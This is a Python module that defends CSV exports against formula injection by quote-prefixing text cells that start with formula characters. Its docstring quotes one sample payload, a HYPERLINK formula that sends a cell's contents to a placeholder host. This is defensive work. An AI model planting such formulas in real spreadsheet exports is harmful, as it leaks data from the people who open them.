"""CSV cells a spreadsheet will not run as formulas (OWASP's CSV injection guidance).

Names, notes and camera names come from watchlists and officers; a cell such as
``=HYPERLINK("http://x/?"&A1,"open")`` or ``@SUM(...)`` would be run by Excel or
LibreOffice when the export is opened. Every CSV the console writes goes through
:func:`safe_cell` (via :func:`safe_row` or :class:`SafeDictWriter`): a text cell that starts
with a character a spreadsheet treats as the start of a formula gets a leading single
quote, which spreadsheets show as text and do not evaluate.

Numbers the console writes as numbers (an int or float, e.g. a negative figure) are left
as they are: a spreadsheet reads ``-0.5`` as the number it is, not as a formula, and
quoting it would turn a figure into text. Only *text* that happens to start with ``-``
(``-1+1`` typed into a note) is neutralised.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import Any

# OWASP: =, +, -, @, tab (0x09) and carriage return (0x0D) start a formula or a DDE call.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """The value as it may go into a CSV cell: text that a spreadsheet would evaluate is
    prefixed with ``'``; anything that is not text (numbers, None) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(v) for v in values]


class SafeDictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose every cell (header included) goes through safe_cell.

    ``writerows`` is overridden too: the base class's bypasses ``writerow``."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: safe_cell(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for r in rowdicts:
            self.writerow(r)


class SafeWriter:
    """``csv.writer`` whose every cell goes through safe_cell."""

    def __init__(self, fh: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(fh, **kwargs)

    def writerow(self, values: Iterable[object]) -> Any:
        return self._writer.writerow(safe_row(values))

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for r in rows:
            self.writerow(r)
